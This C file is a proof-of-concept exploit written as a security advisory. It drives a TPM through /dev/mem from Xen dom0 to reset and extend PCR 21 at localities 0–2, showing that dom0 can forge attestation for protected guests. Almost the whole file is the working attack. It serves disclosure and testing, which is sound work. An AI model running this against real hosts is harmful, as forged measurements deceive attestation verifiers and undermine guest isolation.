/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: dom0 measures in the hypervisor's name.
 *
 * Claim    whoever reaches the TPM at locality 2 can set PCRs 21 and 22, and
 *          so attest whatever he likes as a protected guest.
 * Method   drive the TPM's registers through /dev/mem, with the driver that
 *          Xen itself uses, at localities 0 to 2: reset and extend PCR 21.
 * Stock    works at locality 2.
 *
 * Prints "reset LOCALITY RESULT" and "extend LOCALITY RESULT", with "done",
 * "refused" (by the TPM) or "unreachable".  The kernel's driver must be
 * unloaded (it claims the range).
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cloister/tpm2.h>

#define BASE    0xfed40000ul
#define SIZE    0x5000ul
#define PCR     21u
#define SECONDS 120u

static volatile uint8_t *regs;

static uint8_t read8(void *ctx, uint32_t offset)
{
    (void)ctx;

    return regs[offset];
}

static void write8(void *ctx, uint32_t offset, uint8_t value)
{
    (void)ctx;
    regs[offset] = value;
}

static uint32_t read32(void *ctx, uint32_t offset)
{
    (void)ctx;

    return *(volatile uint32_t *)(regs + offset);
}

static uint64_t now_us(void *ctx)
{
    struct timespec t;

    (void)ctx;
    clock_gettime(CLOCK_MONOTONIC, &t);

    return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static const struct cl_tpm_platform platform = {
    .read8 = read8,
    .write8 = write8,
    .read32 = read32,
    .now_us = now_us,
};

static const char *send(unsigned int locality, const uint8_t *cmd, size_t len)
{
    static struct cl_tpm tpm;
    int rc;

    if ( cl_tpm_init(&tpm, &platform, locality) ||
         cl_tpm_start(&tpm, cmd, len) )
        return "unreachable";
    while ( (rc = cl_tpm_poll(&tpm)) == -EINPROGRESS )
        usleep(1000);
    if ( rc )
        return "unreachable";

    return cl_tpm2_empty_rsp(tpm.buf, tpm.rsp_len, true) ? "refused" : "done";
}

/* In a child: an access that Xen refuses ends it. */
static void attack(unsigned int locality, int extend)
{
    static const uint8_t digest[CL_TPM2_DIGEST] = "dom0 was here";
    const char *result = "unreachable";
    uint8_t cmd[128];
    size_t len = extend ? cl_tpm2_pcr_extend_cmd(cmd, sizeof(cmd), PCR, digest)
                        : cl_tpm2_pcr_reset_cmd(cmd, sizeof(cmd), PCR);
    int fd = open("/dev/mem", O_RDWR | O_SYNC);
    void *p = fd < 0 ? MAP_FAILED
                     : mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
                            (off_t)BASE);

    alarm(SECONDS);
    if ( p != MAP_FAILED )
    {
        regs = p;
        result = send(locality, cmd, len);
    }
    printf("%s %u %s\n", extend ? "extend" : "reset", locality, result);
    fflush(stdout);
    _exit(0);
}

int main(void)
{
    unsigned int locality;
    int extend, status;
    pid_t pid;

    for ( locality = 0; locality < 3; locality++ )
        for ( extend = 0; extend < 2; extend++ )
        {
            pid = fork();
            if ( !pid )
                attack(locality, extend);
            if ( pid < 0 || waitpid(pid, &status, 0) != pid ||
                 !WIFEXITED(status) )
                printf("%s %u unreachable\n", extend ? "extend" : "reset",
                       locality);
        }

    return 0;
}
